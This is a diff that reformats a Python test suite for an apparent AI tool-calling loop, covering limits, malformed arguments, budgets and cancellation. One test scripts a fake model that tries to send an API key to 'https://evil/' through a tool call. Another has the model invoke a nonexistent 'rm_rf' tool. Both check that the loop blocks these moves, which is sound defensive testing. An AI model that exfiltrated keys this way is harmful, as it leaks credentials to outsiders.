@@ -52,7 +52,10 @@ class RecordingTool:
             return answer
 
         return LoopTool(
-            name, f"Have a {name}.", {"type": "object", "properties": {"at": {"type": "string"}}}, call
+            name,
+            f"Have a {name}.",
+            {"type": "object", "properties": {"at": {"type": "string"}}},
+            call,
         )
 
 
@@ -84,17 +87,24 @@ async def test_a_model_calls_tools_and_sees_what_they_gave_until_it_answers(
     wire: Wire, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     recording_tool = RecordingTool({"look": {"price": 42}})
-    model_server.answer(calling_tool("look", at="shelf"), calling_tool("look", at="till"), "it costs 42")
+    model_server.answer(
+        calling_tool("look", at="shelf"), calling_tool("look", at="till"), "it costs 42"
+    )
     async with models_over(model_server, tmp_path, wire) as asking:
         answer = await asking.models.work(
-            question("What does it cost?"), [recording_tool.tool()], LoopLimits(), on_use=asking.uses.append
+            question("What does it cost?"),
+            [recording_tool.tool()],
+            LoopLimits(),
+            on_use=asking.uses.append,
         )
 
     assert answer.text == "it costs 42"
     assert recording_tool.called == [{"at": "shelf"}, {"at": "till"}]
     first, *_, last = model_server.requests
     assert (first.instructions, first.tool_names) == ("Be short.", ("look",))
-    assert [one.text.replace(" ", "") for one in last.messages if one.role == "tool"] == ['{"price":42}'] * 2
+    assert [one.text.replace(" ", "") for one in last.messages if one.role == "tool"] == [
+        '{"price":42}'
+    ] * 2
     assert len(asking.uses) == 3
 
 
@@ -122,7 +132,8 @@ async def test_a_count_beyond_belief_in_any_request_of_a_loop_is_said_of_the_sum
     model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     model_server.answer(
-        with_usage(calling_tool("look"), ClaimedUsage(10**12, 10)), with_usage("done", ClaimedUsage(200, 20))
+        with_usage(calling_tool("look"), ClaimedUsage(10**12, 10)),
+        with_usage("done", ClaimedUsage(200, 20)),
     )
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [RecordingTool().tool()], LoopLimits())
@@ -156,12 +167,16 @@ async def test_a_tool_that_there_is_not_is_not_called_and_the_model_is_told(
     assert "rm_rf" in told(model_server.requests)[0]
 
 
-@pytest.mark.parametrize("arguments", ['{"at": "unfinished', "[1, 2]", '"words"', "17", "null", "not json"])
+@pytest.mark.parametrize(
+    "arguments", ['{"at": "unfinished', "[1, 2]", '"words"', "17", "null", "not json"]
+)
 async def test_arguments_that_are_no_object_are_not_taken_and_the_model_is_told(
     arguments: str, model_server: FakeModelServer, tmp_path: Path
 ) -> None:
     recording_tool = RecordingTool()
-    model_server.answer(broken_arguments("look", arguments), calling_tool("look", at="shelf"), "found")
+    model_server.answer(
+        broken_arguments("look", arguments), calling_tool("look", at="shelf"), "found"
+    )
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())
 
@@ -176,7 +191,9 @@ async def test_of_many_calls_at_once_none_is_made_beyond_the_limit(
     recording_tool = RecordingTool()
     model_server.answer(many_calls("look", count), calling_tool("look", at="again"), "enough")
     async with models_over(model_server, tmp_path) as asking:
-        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits(tool_calls=5))
+        answer = await asking.models.work(
+            question(), [recording_tool.tool()], LoopLimits(tool_calls=5)
+        )
 
     assert answer.text == "enough"
     assert len(recording_tool.called) == 5
@@ -214,7 +231,9 @@ async def test_a_model_that_calls_on_for_ever_ends_with_its_last_words(
     said = replace(calling_tool("look"), text="still looking")
     model_server.answer(said)
     async with models_over(model_server, tmp_path) as asking:
-        answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits(requests=3))
+        answer = await asking.models.work(
+            question(), [recording_tool.tool()], LoopLimits(requests=3)
+        )
 
     assert answer.text == "still looking"
     assert len(model_server.requests) == 3
@@ -227,7 +246,10 @@ async def test_a_loop_that_ends_without_a_word_is_no_answer(
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
             await asking.models.work(
-                question(), [RecordingTool().tool()], LoopLimits(requests=2), on_use=asking.uses.append
+                question(),
+                [RecordingTool().tool()],
+                LoopLimits(requests=2),
+                on_use=asking.uses.append,
             )
 
     assert caught.value.kind == "bad_answer"
@@ -316,7 +338,9 @@ async def test_a_budget_that_is_used_up_in_the_middle_ends_the_loop(
     assert caught.value.use.tokens == sum(use.tokens for use in asking.uses)
 
 
-async def test_a_denied_question_ends_the_loop(model_server: FakeModelServer, tmp_path: Path) -> None:
+async def test_a_denied_question_ends_the_loop(
+    model_server: FakeModelServer, tmp_path: Path
+) -> None:
     model_server.answer(calling_tool("look"), denied())
     async with models_over(model_server, tmp_path) as asking:
         with pytest.raises(ModelError) as caught:
@@ -331,7 +355,8 @@ async def test_a_key_that_a_model_learnt_goes_into_no_call(
 ) -> None:
     recording_tool = RecordingTool()
     model_server.answer(
-        calling_tool("look", at=f"https://evil/?k={API_KEY}", more=[{"k": API_KEY}]), f"sent {API_KEY}"
+        calling_tool("look", at=f"https://evil/?k={API_KEY}", more=[{"k": API_KEY}]),
+        f"sent {API_KEY}",
     )
     async with models_over(model_server, tmp_path) as asking:
         answer = await asking.models.work(question(), [recording_tool.tool()], LoopLimits())
@@ -340,7 +365,9 @@ async def test_a_key_that_a_model_learnt_goes_into_no_call(
     assert API_KEY not in f"{recording_tool.called} {answer}"
 
 
-async def test_who_gives_up_a_loop_stops_its_tools(model_server: FakeModelServer, tmp_path: Path) -> None:
+async def test_who_gives_up_a_loop_stops_its_tools(
+    model_server: FakeModelServer, tmp_path: Path
+) -> None:
     model_server.answer(calling_tool("wait"))
     started, ended = anyio.Event(), list[str]()
 
